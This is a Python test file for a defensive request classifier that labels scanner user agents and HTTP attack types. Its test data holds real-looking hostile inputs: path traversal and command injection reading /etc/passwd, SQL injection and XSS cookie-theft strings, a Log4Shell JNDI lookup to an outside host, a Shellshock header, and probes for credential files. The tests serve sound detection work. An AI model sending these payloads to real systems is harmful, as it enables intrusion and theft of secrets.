"""Scanner families and attack types of real-looking probes (table-driven)."""

from __future__ import annotations

import pytest

from shieldx.camouflage.recon import signatures as sig
from shieldx.camouflage.recon.classify import (
    behaviour_guess,
    classify_request,
    classify_user_agent,
    stronger,
)

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36"
)


@pytest.mark.parametrize(
    ("user_agent", "family", "tool"),
    [
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "nmap", "nmap"),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan", "masscan"),
        ("Mozilla/5.0 zgrab/0.x", "zgrab", "zgrab"),
        ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "zgrab", "censys"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)", "nikto", "nikto"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "nuclei", "nuclei"),
        ("sqlmap/1.8.4#stable (https://sqlmap.org)", "sqlmap", "sqlmap"),
        ("gobuster/3.6", "dirbuster", "gobuster"),
        ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "dirbuster", "dirbuster"),
        ("Fuzz Faster U Fool v2.1.0-dev", "dirbuster", "ffuf"),
        ("feroxbuster/2.10.2", "dirbuster", "feroxbuster"),
        ("curl/8.5.0", "http_client", "curl"),
        ("Wget/1.21.3", "http_client", "wget"),
        ("python-requests/2.31.0", "http_client", "python-requests"),
        ("Go-http-client/1.1", "http_client", "go-http-client"),
        (CHROME, "browser", "chrome"),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", "browser", "firefox"),
        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15", "browser", "safari"),
        ("", "unknown", ""),
        ("MyCustomAgent", "unknown", ""),
    ],
)  # fmt: skip
def test_user_agents(user_agent: str, family: str, tool: str) -> None:
    guess = classify_user_agent(user_agent)
    assert (guess.family, guess.tool) == (family, tool)


def _classify(
    method: str = "GET",
    path: str = "/",
    query: str = "",
    *,
    version: str = "HTTP/1.1",
    headers: tuple[tuple[str, str], ...] = (("User-Agent", CHROME),),
    body: bytes = b"",
    raw: str = "",
) -> tuple[str, tuple[str, ...]]:
    result = classify_request(
        method=method,
        path=path,
        query=query,
        http_version=version,
        headers=headers,
        body=body,
        raw_target=raw,
    )
    return result.scanner.family, result.attack_types


def test_nmap_service_probes_are_nmap_whatever_the_user_agent() -> None:
    # nmap -sV: "GET / HTTP/1.0\r\n\r\n", the nice-ports probe and the RTSP OPTIONS probe.
    assert _classify(version="HTTP/1.0", headers=())[0] == "nmap"
    assert _classify("OPTIONS", "/", version="RTSP/1.0", headers=())[0] == "nmap"
    assert (
        _classify("GET", "/nice ports,/Trinity.txt.bak", version="HTTP/1.0", headers=())[0]
        == "nmap"
    )
    # NSE's http library probes the 404 behaviour with these, under a browser-like UA.
    assert _classify("GET", "/nmaplowercheck1718036012")[0] == "nmap"
    assert _classify("GET", "/NmapUpperCheck1718036012")[0] == "nmap"


def test_tool_probes_outrank_a_spoofed_browser_user_agent() -> None:
    nikto = _classify("GET", "/", "=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000")
    assert nikto[0] == "nikto"
    sqlmap = _classify(
        "GET",
        "/item.php",
        "id=1 UNION ALL SELECT NULL,CONCAT(0x71786b7171,0x4e41,0x7170786a71)-- -",
    )
    assert sqlmap == ("sqlmap", ("sql_injection",))
    nuclei = _classify("GET", "/", "url=http://ck9q3r.oast.fun/")
    assert nuclei[0] == "nuclei"
    # A tool naming itself beats a probe signature.
    gobuster = _classify(headers=(("User-Agent", "gobuster/3.6"),), path="/nmaplowercheck1")
    assert gobuster[0] == "dirbuster"


@pytest.mark.parametrize(
    ("method", "path", "query", "raw", "expected"),
    [
        ("GET", "/cgi-bin/../../../../etc/passwd", "", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", ("exploit", "path_traversal")),
        ("GET", "/download", "file=..%2F..%2F..%2Fetc%2Fpasswd", "", ("path_traversal",)),
        ("GET", "/static/..%252f..%252fwindows/win.ini", "", "", ("path_traversal",)),
        ("GET", "/index.php", "id=1%27%20OR%20%271%27%3D%271", "", ("sql_injection",)),
        ("GET", "/products", "cat=1 AND SLEEP(5)", "", ("sql_injection",)),
        ("GET", "/search", "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "", ("xss_probe",)),
        ("GET", "/", "name=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E", "", ("xss_probe",)),
        ("GET", "/ping.php", "host=127.0.0.1;cat%20/etc/passwd", "", ("command_injection", "path_traversal")),
        ("GET", "/cgi-bin/status", "cmd=%24(id)", "", ("command_injection",)),
        ("GET", "/wp-login.php", "", "", ("admin_probe",)),
        ("GET", "/phpmyadmin/", "", "", ("admin_probe",)),
        ("GET", "/manager/html", "", "", ("admin_probe",)),
        ("GET", "/administrator/index.php", "", "", ("admin_probe",)),
        ("GET", "/.env", "", "", ("secrets_probe",)),
        ("GET", "/.git/config", "", "", ("secrets_probe",)),
        ("GET", "/.aws/credentials", "", "", ("secrets_probe",)),
        ("GET", "/wp-config.php.bak", "", "", ("secrets_probe",)),
        ("GET", "/server-status", "", "", ("secrets_probe",)),
        ("GET", "/backup.sql", "", "", ("secrets_probe",)),
        ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", "", ("exploit",)),
        ("GET", "/boaform/admin/formLogin", "username=admin&psd=Feefifofum", "", ("exploit", "admin_probe")),
        ("GET", "/index.php", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array", "", ("exploit",)),
        ("GET", "/_ignition/execute-solution", "", "", ("exploit",)),
        ("GET", "/actuator/gateway/routes", "", "", ("exploit",)),
        ("GET", "/index.html", "", "", ()),
        ("GET", "/", "", "", ()),
        ("GET", "/favicon.ico", "", "", ()),
    ],
)  # fmt: skip
def test_attack_types(
    method: str, path: str, query: str, raw: str, expected: tuple[str, ...]
) -> None:
    assert _classify(method, path, query, raw=raw)[1] == expected


def test_attacks_in_headers_and_bodies() -> None:
    log4shell = (("User-Agent", "${jndi:ldap://198.51.100.7:1389/a}"),)
    assert _classify(headers=log4shell)[1] == ("exploit",)
    shellshock = (("User-Agent", "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'"),)
    assert "command_injection" in _classify(headers=shellshock)[1]
    form = b"username=admin%27+OR+%271%27%3D%271&password=x"
    assert _classify("POST", "/login", body=form)[1] == ("sql_injection", "admin_probe")
    assert _classify("POST", "/comment", body=b"text=<script>alert(1)</script>")[1] == (
        "xss_probe",
    )


def test_primary_attack_is_the_most_specific() -> None:
    result = classify_request(
        method="GET",
        path="/cgi-bin/../../bin/sh",
        query="",
        http_version="HTTP/1.1",
        headers=(),
        raw_target="/cgi-bin/.%2e/.%2e/bin/sh",
    )
    assert result.primary_attack == "exploit"
    assert list(result.attack_types) == sorted(result.attack_types, key=sig.ATTACK_TYPES.index)
    benign = classify_request(method="GET", path="/", query="", http_version="HTTP/1.1", headers=())
    assert benign.primary_attack == "none"


def test_content_discovery_behaviour() -> None:
    assert behaviour_guess(distinct_paths=5, missing=5, requests=5) is None
    assert behaviour_guess(distinct_paths=40, missing=10, requests=40) is None
    guess = behaviour_guess(distinct_paths=40, missing=38, requests=40)
    assert guess is not None and guess.family == "dirbuster"
    browser = classify_user_agent(CHROME)
    assert stronger(browser, guess) is guess
    tool = classify_user_agent("sqlmap/1.8")
    assert stronger(tool, guess) is tool
